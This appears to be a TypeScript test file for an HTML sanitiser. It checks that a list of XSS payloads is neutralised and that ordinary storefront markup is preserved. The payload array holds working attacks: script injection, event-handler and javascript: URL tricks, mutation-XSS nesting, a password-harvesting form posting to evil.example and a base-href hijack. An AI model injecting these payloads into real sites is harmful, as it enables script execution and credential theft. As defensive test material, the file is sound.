import { JSDOM } from 'jsdom';
import { sanitizeRichText } from './rich-text';

/** Payloads from the OWASP XSS filter evasion cheat sheet and public bug reports on HTML sanitisers. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>',
  '<p title="</p><img src=x onerror=alert(1)>">t</p>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<div data-x="&quot; onmouseover=alert(1) &quot;">z</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const FORBIDDEN = 'script, iframe, frame, object, embed, form, input, button, meta, base, link, style, svg, math, body, noscript, template';
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcset'];

/** Parsed as a browser would: no script, style, frame or form elements, no event handlers, no script URLs or CSS. */
function assertInert(html: string) {
  const document = new JSDOM(`<!doctype html><body><div id="root">${html}</div></body>`).window.document;
  const root = document.getElementById('root')!;
  expect(root.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      expect(attribute.name).not.toMatch(/^on/i);
      if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) expect(attribute.value.replace(/\s/g, '')).not.toMatch(/^(javascript|vbscript|data:text)/i);
      if (attribute.name === 'style') expect(attribute.value).not.toMatch(/expression|javascript|url\(/i);
    }
  }
}

describe('sanitizeRichText', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    assertInert(sanitizeRichText(payload));
  });

  it("keeps the Luma pages' markup: headings, lists, images, links, tables, Page Builder classes and data attributes", () => {
    const luma = [
      '<div data-content-type="row" data-appearance="contained" class="row-full-width-inner" style="justify-content: flex-start; display: flex;">',
      '<h2>Get fit and look fab in new seasonal styles</h2>',
      '<p><strong>Shop</strong> our <em>new</em> arrivals. <a href="/women/tops-women.html" title="Tops">Tops</a></p>',
      '<ul class="items"><li>Pants</li><li>Shorts</li></ul><ol><li>One</li></ol>',
      '<img src="/media/wysiwyg/home/home-main.jpg" alt="Main" width="1080" height="600">',
      '<table class="data table"><thead><tr><th>Size</th></tr></thead><tbody><tr><td colspan="2">XS</td></tr></tbody></table>',
      '</div>',
    ].join('');
    expect(sanitizeRichText(luma)).toBe(luma.replace('justify-content: flex-start; display: flex;', 'justify-content:flex-start; display:flex;'));
  });

  it('leaves plain text and empty content alone', () => {
    expect(sanitizeRichText('')).toBe('');
    expect(sanitizeRichText('Soft & warm')).toBe('Soft & warm');
  });
});
